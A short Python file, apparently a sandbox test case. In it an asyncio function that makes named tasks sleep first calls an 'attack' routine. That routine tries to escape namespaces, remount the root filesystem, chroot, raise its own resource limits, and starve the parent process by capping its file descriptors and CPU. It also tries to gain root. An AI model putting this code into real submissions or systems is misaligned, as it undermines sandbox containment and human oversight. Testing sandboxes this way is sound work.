import asyncio
import ctypes
import os
import resource


def attempt(function, *arguments):
    try:
        return function(*arguments)
    except Exception:
        return None


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x20000, 0x40000000, 0x10000000 | 0x20000):
        libc.unshare(flag)
    libc.mount(b"tmpfs", b"/", b"tmpfs", 0, None)
    libc.mount(b"proc", b"/proc", b"proc", 0, None)
    libc.umount2(b"/tmp", 2)
    libc.chroot(b"/")
    for what in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
        attempt(resource.setrlimit, what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    attempt(resource.prlimit, os.getppid(), resource.RLIMIT_NOFILE, (3, 3))
    attempt(os.sched_setaffinity, os.getppid(), [0])
    for identity in (os.setuid, os.setgid):
        attempt(identity, 0)
    libc.setns(0, 0)


async def sleep(name, seconds):
    print(f"{name}: sleeping")
    await asyncio.sleep(seconds)
    print(f"{name}: awake!")


async def everybody(sleepers):
    attack()
    await asyncio.gather(*(sleep(name, seconds) for name, seconds in sleepers.items()))
